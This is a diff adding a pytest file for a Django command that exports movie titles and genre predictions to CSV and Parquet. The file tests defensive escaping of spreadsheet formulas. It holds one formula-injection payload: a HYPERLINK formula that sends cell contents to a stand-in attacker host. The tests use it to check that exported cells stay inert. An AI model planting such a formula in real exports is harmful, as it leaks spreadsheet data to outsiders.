@@ -1,0 +1,129 @@
+"""`manage.py export_tables`: titles and predictions that spreadsheets may open and notebooks read."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from arro3.io import read_parquet
+from django.core.management import CommandError, call_command
+from hypothesis import given
+from hypothesis import strategies as st
+
+from catalog.models import Movie, Suggestion
+from catalog.services import reviewing
+from catalog.services.sheet_files import FORMULA, inert
+from catalog.services.sheets import PREDICTIONS, TITLES
+from catalog.sources import csv_file
+from catalog.sources.records import TitleRecord
+from tests.factories import GenreFactory, MovieFactory, SuggestionFactory, UserFactory
+
+pytestmark = pytest.mark.django_db
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def tables(folder: Path, **options: Any) -> str:
+    out = io.StringIO()
+    call_command("export_tables", folder, stdout=out, **options)
+    return out.getvalue()
+
+
+def csv_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def parquet_rows(path: Path) -> list[dict[str, Any]]:
+    table = read_parquet(path).read_all()
+    names = table.column_names
+    columns = [[value.as_py() for value in table[name]] for name in names]
+    return [dict(zip(names, row, strict=True)) for row in zip(*columns, strict=True)]
+
+
+@pytest.fixture
+def movie() -> Movie:
+    movie = MovieFactory(title="Amélie", year=2001, franchise="Montmartre", poster=True)
+    for name, origin in (("Romance", "manual"), ("Comedy", "imported"), ("Drama", "accepted")):
+        movie.movie_genres.create(genre=GenreFactory(name=name), origin=origin)
+    MovieFactory(title=HOSTILE, imdb_id=None, tmdb_id=None, local_id="-1", year=None)
+    return movie
+
+
+def test_titles_as_csv(movie: Movie, tmp_path: Path) -> None:
+    assert "titles.csv: 2 rows" in tables(tmp_path / "new", format="csv")
+    assert sorted(path.name for path in (tmp_path / "new").iterdir()) == ["predictions.csv", "titles.csv"]
+    first, second = csv_rows(tmp_path / "new/titles.csv")
+    assert list(first) == list(TITLES)
+    assert first["title"] == "Amélie" and first["year"] == "2001" and first["imdb_id"] == movie.imdb_id
+    assert first["genres"] == "Comedy|Drama|Romance" and first["genre_origins"] == "imported|accepted|manual"
+    assert first["poster_source"] == "tmdb_page" and first["poster_width"] == "40"
+    assert first["page"] == movie.get_absolute_url()
+    assert second["title"] == f"'{HOSTILE}" and second["local_id"] == "'-1"
+    assert second["year"] == second["genres"] == second["poster_source"] == ""
+
+
+def test_titles_as_parquet_are_unchanged_and_typed(movie: Movie, tmp_path: Path) -> None:
+    tables(tmp_path, format="parquet")
+    first, second = parquet_rows(tmp_path / "titles.parquet")
+    assert list(first) == list(TITLES)
+    assert first["id"] == movie.pk and first["year"] == 2001
+    assert first["genres"] == ["Comedy", "Drama", "Romance"]
+    assert first["genre_origins"] == ["imported", "accepted", "manual"]
+    assert second["title"] == HOSTILE and second["local_id"] == "-1"
+    assert second["year"] is None and second["genres"] == []
+
+
+def test_predictions_say_who_decided_and_when(tmp_path: Path) -> None:
+    reviewer = UserFactory(username="@anna")
+    accepted, waiting = SuggestionFactory(score=0.1 + 0.2, sure=True), SuggestionFactory()
+    reviewing.accept([accepted], reviewer)
+    accepted.refresh_from_db()
+    tables(tmp_path)
+    first, second = csv_rows(tmp_path / "predictions.csv")
+    assert list(first) == list(PREDICTIONS)
+    assert float(first["score"]) == 0.1 + 0.2 and first["sure"] == "true" and first["state"] == "accepted"
+    assert first["decided_by"] == "'@anna" and first["genre"] == accepted.genre.name
+    assert datetime.fromisoformat(first["decided_at"]) == accepted.decided_at.replace(microsecond=0)
+    assert second["movie_id"] == str(waiting.movie_id) and second["decided_by"] == second["decided_at"] == ""
+    first, second = parquet_rows(tmp_path / "predictions.parquet")
+    assert first["score"] == 0.1 + 0.2 and first["sure"] is True and first["decided_by"] == "@anna"
+    assert first["decided_at"].astimezone(UTC) == accepted.decided_at
+    assert first["model_version"] == accepted.model.version
+    assert second["state"] == Suggestion.State.PENDING and second["decided_at"] is None
+
+
+def test_movies_merged_away_are_not_among_the_titles(movie: Movie, tmp_path: Path) -> None:
+    Movie.everything.filter(pk=MovieFactory(title="Amelie").pk).update(merged_into=movie)
+    tables(tmp_path)
+    assert len(csv_rows(tmp_path / "titles.csv")) == len(parquet_rows(tmp_path / "titles.parquet")) == 2
+
+
+def test_an_empty_catalogue_gives_headers(tmp_path: Path) -> None:
+    tables(tmp_path)
+    assert csv_rows(tmp_path / "titles.csv") == parquet_rows(tmp_path / "predictions.parquet") == []
+    assert read_parquet(tmp_path / "titles.parquet").schema.names == list(TITLES)
+
+
+def test_a_titles_file_can_be_imported_again(movie: Movie, tmp_path: Path) -> None:
+    tables(tmp_path)
+    [first, _] = list(csv_file.read(tmp_path / "titles.csv"))
+    assert isinstance(first, TitleRecord)
+    assert first.title == "Amélie" and first.imdb_id == movie.imdb_id
+    assert set(first.genres) == {"Comedy", "Drama", "Romance"}
+
+
+@given(st.text(max_size=20) | st.tuples(st.sampled_from([*FORMULA, " "]), st.text(max_size=9)).map("".join))
+def test_no_cell_begins_like_a_formula(text: str) -> None:
+    cell = inert(text)
+    assert not cell.startswith(FORMULA) and not cell.lstrip().startswith(FORMULA)
+    assert cell.removeprefix("'") == text or cell == text
+
+
+def test_a_folder_that_cannot_be_written_is_said(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("")
+    with pytest.raises(CommandError, match="file"):
+        tables(tmp_path / "file")
